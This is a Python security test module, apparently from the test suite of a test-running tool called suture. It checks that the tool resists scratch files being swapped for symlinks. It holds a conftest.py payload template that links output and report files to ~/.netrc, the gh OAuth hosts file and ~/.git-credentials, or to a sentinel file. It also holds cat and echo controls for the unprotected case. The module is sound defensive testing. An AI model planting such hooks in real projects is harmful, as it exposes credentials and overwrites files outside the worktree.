"""Class 3: scratch files swapped for symlinks.

A check may write its scratch directory (suture's plugin writes its report there), so code
under test can replace any file in it by a symlink, at the end of its run (output.log, the
JUnit file, the report: suture reads them back) or as it starts (first.txt and the exit file:
suture writes them later). suture must neither read through the link (a secret in its
output) nor write through it (a file outside every worktree changed).

The control plays the unprotected side: the repository's tests on the host with a scratch
directory of their own, then a plain read (cat) or write (echo) of the swapped file.
"""

from __future__ import annotations

from attack import Attacks, broken, diagnose, heal
from lab import Evidence, Lab

ATTACKS = Attacks(cls=3)

SWAP = """\
import os, pathlib

NAME, TARGET = {name!r}, {target!r}


def _swap():
    report = os.environ.get("SUTURE_PYTEST_REPORT")
    if report:
        path = pathlib.Path(report).parent / NAME
        if os.path.lexists(path):
            path.unlink()
        os.symlink(TARGET, path)


def {hook}(config):
    _swap()
"""


def swap(name: str, target: str, *, late: bool = True) -> str:
    """conftest.py replacing scratch/`name` by a link to `target` at the end of the run (else at its start)."""
    return SWAP.format(name=name, target=target, hook="pytest_unconfigure" if late else "pytest_configure")


def unprotected(lab: Lab, name: str, *, write: bool = False) -> Evidence:
    """The control: the tests on the host with a scratch dir, then cat (or echo into) scratch/`name`."""
    plain, scratch = lab.root / "plain", lab.root / "scratch"
    scratch.mkdir()
    (scratch / name).write_text("")
    access = f"echo 1 > {scratch / name}" if write else f"cat {scratch / name}"
    script = (
        f"git clone -q {lab.checkout} {plain} && cd {plain} && "
        f"SUTURE_PYTEST_REPORT={scratch / 'report.jsonl'} python -m pytest -q -p no:cacheprovider >/dev/null; {access}"
    )
    return lab.host(["sh", "-c", script])


@ATTACKS.add("output-log-to-netrc", expect="canary")
def output_log_to_netrc(lab: Lab, held: bool) -> Evidence:
    """output.log (suture reads it back after the run) becomes a link to ~/.netrc."""
    lab.repo(broken({"conftest.py": swap("output.log", str(lab.home / ".netrc"))}))
    return diagnose(lab, True) if held else unprotected(lab, "output.log")


@ATTACKS.add("junit-to-gh-hosts", expect="canary")
def junit_to_gh_hosts(lab: Lab, held: bool) -> Evidence:
    """junit.xml becomes a link to gh's hosts file (an OAuth token)."""
    lab.repo(broken({"conftest.py": swap("junit.xml", str(lab.home / ".config/gh/hosts.yml"))}))
    return heal(lab, True) if held else unprotected(lab, "junit.xml")


@ATTACKS.add("report-to-git-credentials", expect="canary")
def report_to_git_credentials(lab: Lab, held: bool) -> Evidence:
    """report.jsonl (the verdict's source) becomes a link to ~/.git-credentials."""
    lab.repo(broken({"conftest.py": swap("report.jsonl", str(lab.home / ".git-credentials"))}))
    return heal(lab, True) if held else unprotected(lab, "report.jsonl")


@ATTACKS.add("exit-file-to-sentinel", expect="precious.txt changed")
def exit_file_to_sentinel(lab: Lab, held: bool) -> Evidence:
    """The exit file suture writes after each capture check is a link, planted as the check starts."""
    lab.repo(broken({"conftest.py": swap("exit", str(lab.sentinels / "precious.txt"), late=False)}))
    return heal(lab, True) if held else unprotected(lab, "exit", write=True)


@ATTACKS.add("first-ids-to-sentinel", expect="precious.txt changed")
def first_ids_to_sentinel(lab: Lab, held: bool) -> Evidence:
    """first.txt, which suture writes when it releases the run it held, is a link planted at start-up."""
    lab.repo(broken({"conftest.py": swap("first.txt", str(lab.sentinels / "precious.txt"), late=False)}))
    return heal(lab, True) if held else unprotected(lab, "first.txt", write=True)


test_attack = ATTACKS.test()
